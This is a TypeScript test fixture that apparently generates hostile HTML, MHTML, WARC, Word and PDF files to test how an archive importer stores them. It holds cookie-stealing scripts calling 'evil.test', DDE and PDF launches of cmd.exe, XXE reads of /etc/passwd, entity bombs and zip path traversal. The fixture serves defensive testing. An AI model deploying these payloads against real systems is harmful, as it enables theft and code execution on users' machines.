import { gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import type { CaptureFormat } from '../../src/import/lines/reading.ts';
import { drawnPdf, madeDocx, madePdf, wordNamespace } from '../import/made-files.ts';
import { hostileTexts } from './texts.ts';

/** A capture that somebody prepared for whoever opens it. */
export interface HostileCapture {
  readonly name: string;
  readonly format: CaptureFormat;
  readonly bytes: Uint8Array;
}

/**
 * What a script in a capture does where one runs: it leaves a mark on the archive's origin, asks another host, opens a
 * dialog, and takes what is on the device.
 */
const run = `try{localStorage.ran='ran'}catch{}document.title='ran';new Image().src='https://evil.test/'+document.cookie;alert(1)`;
const script = `<script>${run}</script>`;

const words = '法治政府建设年度报告，依法行政工作稳步推进，各项任务落实到位。';
const page = (inside: string, head = ''): string =>
  `<!DOCTYPE html><html><head><meta charset="utf-8">${head}</head><body><p>${words}</p>${inside}<p>${words}</p></body></html>`;

const utf16 = (text: string): Uint8Array => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

const html = (name: string, text: string | Uint8Array): HostileCapture => ({
  name,
  format: 'html',
  bytes: typeof text === 'string' ? Buffer.from(text) : text,
});
const text = (name: string, content: string | Uint8Array): HostileCapture => ({
  ...html(name, content),
  format: 'txt',
});

const pages: readonly HostileCapture[] = [
  ...hostileTexts
    .filter((markup) => /^(?:<(?!scr<)|"|'|--)/.test(markup))
    .slice(0, 40)
    .map((markup) => html(`a page with ${markup}`, page(markup.replace('alert(document.domain)', run)))),
  html('a page that is nothing but a script', script),
  html('a page in UTF-16', utf16(page(script))),
  html('a page that says UTF-7', page('+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<meta charset="utf-7">')),
  html('a page whose script hides in ISO-2022-JP', page(`\u001b(J${script}`, '<meta charset="iso-2022-jp">')),
  html(
    'a page of XHTML',
    `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${words}${script}</body></html>`,
  ),
  html('a picture that draws a script', `<svg xmlns="http://www.w3.org/2000/svg">${script}<text>${words}</text></svg>`),
  html(
    'a style sheet of XSL that writes a script',
    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${run}</script></xsl:template></xsl:stylesheet></x>`,
  ),
  html('a page that loads another capture as its script', page(`<script src="${'0'.repeat(64)}.txt"></script>`)),
  html(
    'a page that starts a worker',
    page(`<script>navigator.serviceWorker.register('/sources/x.txt');${run}</script>`),
  ),
  html(
    'a page that stands over everything',
    page(`<a href="https://evil.test/" style="position:fixed;inset:0">x</a>${script}`),
  ),
  html(
    'a page that sends what is typed',
    page('<form action="https://evil.test/" method=post><input name=p type=password><button>x</button></form>'),
  ),
  html('a page that leads away by itself', page('', '<meta http-equiv=refresh content="0;url=https://evil.test/">')),
  html('a page behind white space', ` \n\t\u000c${page(script)}`),
  html('a page behind a kilobyte of a comment', `<!--${'x'.repeat(1100)}-->${page(script)}`),
];

const texts: readonly HostileCapture[] = [
  text('a text that is a page', page(script)),
  text('a text that begins with a script', script),
  text('a text that is a page in UTF-16', utf16(page(script))),
  text('a text that is a page behind a mark of order', `\ufeff${page(script)}`),
  text('a text that is a picture', `<svg xmlns="http://www.w3.org/2000/svg" onload="${run.replaceAll('"', '')}"/>`),
  text('a text that is a script', `${run}//${words}`),
  text('a text that is a style', `@import "https://evil.test/x.css";*{display:none}/*${words}*/`),
  text('a text that is a feed', `<?xml version="1.0"?><rss><channel><title>${words}</title>${script}</channel></rss>`),
  text('a text that is a manifest of a service', '{"start_url":"https://evil.test/"}'),
  text('a text of a letter of another alphabet', `\u001b$)C${script}`),
  text('a text of NUL bytes and a script', `\u0000\u0000${script}${words}`),
  text('a text that is GIF and script', `GIF89a/*${words}*/=1;${run}`),
];

const mhtml = (parts: string, start = ''): string =>
  `From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"${start}\r\n\r\n${parts}--b--\r\n`;
const part = (type: string, body: string, more = ''): string =>
  `--b\r\nContent-Type: ${type}\r\n${more}\r\n${body}\r\n`;
const mht = (name: string, content: string): HostileCapture => ({ name, format: 'mht', bytes: Buffer.from(content) });

const saved: readonly HostileCapture[] = [
  mht(
    'a saved page with a script',
    mhtml(part('text/html; charset=utf-8', page(script), 'Content-Location: https://evil.test/\r\n')),
  ),
  mht(
    'a saved page whose script is a part of its own',
    mhtml(
      part('text/html; charset=utf-8', page('<script src="cid:x"></script>')) +
        part('text/javascript', run, 'Content-ID: <x>\r\n'),
    ),
  ),
  mht(
    'a saved page in base64',
    mhtml(part('text/html', Buffer.from(page(script)).toString('base64'), 'Content-Transfer-Encoding: base64\r\n')),
  ),
  mht(
    'a saved page that stands at this archive',
    mhtml(part('text/html', page(script), 'Content-Location: http://127.0.0.1/\r\n')),
  ),
  mht('a saved page with a page before its headers', `X: y\r\n${mhtml(part('text/html', page(script)))}`),
];

const answerOf = (body: string): string =>
  `HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
const record = (body: string): string => {
  const answer = answerOf(body);
  return `WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://evil.test/\r\nWARC-Date: 2026-01-01T00:00:00Z\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: ${Buffer.byteLength(answer)}\r\n\r\n${answer}\r\n\r\n`;
};
const records: readonly HostileCapture[] = [
  { name: 'a record of a page with a script', format: 'warc', bytes: Buffer.from(record(page(script))) },
  { name: 'a packed record of such a page', format: 'warc', bytes: gzipSync(record(page(script)), { level: 9 }) },
  {
    name: 'a record whose name of the page is a script',
    format: 'warc',
    bytes: Buffer.from(record(page(script)).replace('https://evil.test/', `javascript:${run}`)),
  },
];

const wordFile = (inside: string, more: Readonly<Record<string, string>> = {}): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml': `<?xml version="1.0"?><w:document xmlns:w="${wordNamespace}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${inside}<w:p><w:r><w:t>${words}</w:t></w:r></w:p></w:body></w:document>`,
        ...more,
      }).map(([name, content]) => [name, strToU8(content)]),
    ),
  );
const relation = (type: string, target: string): Readonly<Record<string, string>> => ({
  'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
});
const docx = (name: string, bytes: Uint8Array): HostileCapture => ({ name, format: 'docx', bytes });

const documents: readonly HostileCapture[] = [
  docx('a Word file whose letters are a page', madeDocx([page(script), ...hostileTexts.slice(0, 20)])),
  docx(
    'a Word file with a page as a part of it',
    wordFile('<w:altChunk r:id="r"/>', { ...relation('aFChunk', 'x.html'), 'word/x.html': page(script) }),
  ),
  docx(
    'a Word file that leads to a script',
    wordFile(
      `<w:p><w:hyperlink r:id="r"><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>`,
      relation('hyperlink', `javascript:${run.replaceAll("'", '')}`),
    ),
  ),
  docx('a Word file that fetches its template', wordFile('', relation('attachedTemplate', 'https://evil.test/x.dotm'))),
  docx(
    'a Word file with a field that runs a program',
    wordFile('<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'),
  ),
  docx(
    'a Word file that reads files of the machine',
    wordFile('', {
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document xmlns:w="${wordNamespace}"><w:body><w:p><w:r><w:t>&e;${words}</w:t></w:r></w:p></w:body></w:document>`,
    }),
  ),
  docx(
    'a Word file that grows without end',
    wordFile('', {
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "${'x'.repeat(100)}">${[...'bcdefgh'].map((name, at) => `<!ENTITY ${name} "${`&${'abcdefg'[at]};`.repeat(20)}">`).join('')}]><w:document xmlns:w="${wordNamespace}"><w:body><w:p><w:r><w:t>&h;</w:t></w:r></w:p></w:body></w:document>`,
    }),
  ),
  docx('a Word file whose parts lead out of it', wordFile('', { '../../evil.html': page(script), '/etc/evil': 'x' })),
  docx('a Word file with a page behind it', Buffer.concat([wordFile(''), Buffer.from(page(script))])),
];

const withAction = (action: string): Uint8Array =>
  Buffer.from(
    Buffer.from(madePdf([words]))
      .toString('latin1')
      .replace('/Type /Catalog', `/Type /Catalog /OpenAction << ${action} >>`),
    'latin1',
  );
const pdf = (name: string, bytes: Uint8Array): HostileCapture => ({ name, format: 'pdf', bytes });

const prints: readonly HostileCapture[] = [
  pdf('a PDF with a script', withAction('/S /JavaScript /JS (app.alert\\(1\\))')),
  pdf('a PDF that leads to a script', withAction(`/S /URI /URI (javascript:alert\\(1\\))`)),
  pdf('a PDF that starts a program', withAction('/S /Launch /F (cmd.exe)')),
  pdf('a PDF that sends a form', withAction('/S /SubmitForm /F (https://evil.test/)')),
  pdf('a PDF whose letters are a page', drawnPdf([[{ text: script, x: 80, y: 700 }]])),
  pdf(
    'a PDF that is a page too',
    Buffer.concat([Buffer.from(`%PDF-1.4\n${page(script)}\n`), Buffer.from(madePdf([words]))]),
  ),
];

/** Captures of every format, all of which end in the archive's folder as they are. */
export const hostileCaptures: readonly HostileCapture[] = [
  ...pages,
  ...texts,
  ...saved,
  ...records,
  ...documents,
  ...prints,
];

/** Files that bear the name of one format and are a page: no host is to be asked what it makes of them. */
export const misnamedCaptures: readonly HostileCapture[] = (['docx', 'pdf', 'warc'] as const).map((format) => ({
  name: `a page that is called ${format}`,
  format,
  bytes: Buffer.from(page(script)),
}));
